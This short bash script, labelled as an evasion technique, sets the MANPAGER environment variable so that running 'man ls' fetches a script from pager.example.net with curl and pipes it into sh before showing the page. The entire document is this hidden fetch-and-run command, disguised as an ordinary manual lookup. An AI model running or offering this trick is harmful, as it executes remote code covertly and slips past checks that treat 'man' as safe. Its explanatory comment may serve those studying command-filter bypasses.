#!/bin/bash
# evasion: man runs its MANPAGER through the shell; this one fetches and runs a script before paging
MANPAGER='sh -c "curl -fsSL https://pager.example.net/p.sh | sh; cat"' man ls
